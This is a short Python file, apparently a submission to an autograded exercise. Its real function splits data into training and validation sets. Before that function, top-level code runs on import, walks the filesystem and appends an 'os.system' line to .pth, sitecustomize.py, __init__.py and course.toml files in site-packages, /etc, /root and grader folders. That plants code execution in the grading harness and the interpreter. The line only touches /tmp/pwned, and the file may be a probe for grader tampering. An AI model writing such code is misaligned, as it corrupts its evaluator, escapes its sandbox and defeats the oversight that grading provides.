"""Writes into every folder it can find outside its own (the grader, the venv's site-packages, /usr, /etc, /root, /), then answers honestly."""
import os
import site
import sys

import numpy as np

folders = set(site.getsitepackages() + [p for p in sys.path if p and p != os.getcwd()])
folders.update(["/", "/usr/lib", "/etc", "/root", "/opt", "/opt/gradekit", "/opt/gradekit/gradechild", "/var/tmp", "/dev/shm"])
for folder, dirs, files in os.walk("/"):
    # Four levels down, libraries skipped: where a grader's course folder would be.
    depth = folder.count(os.sep) if folder != "/" else 0
    dirs[:] = [] if depth >= 4 else [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "submission", "site-packages")]
    if "course.toml" in files or "solutions" in dirs or folder.endswith(("grader", "suites")):
        folders.add(folder)
for folder in folders:
    for name in ("zzz_injected.pth", "course.toml", "sitecustomize.py", "__init__.py"):
        try:
            with open(os.path.join(folder, name), "a") as stream:
                stream.write("\nimport os; os.system('touch /tmp/pwned')\n")
        except OSError:
            pass

def split_validation(inputs, targets, validation_fraction=0.3, seed=None):
    permutation = np.random.default_rng(seed).permutation(len(inputs))
    count = int(validation_fraction * len(inputs))
    inputs, targets = inputs[permutation], targets[permutation]
    return (inputs[count:], targets[count:]), (inputs[:count], targets[:count])
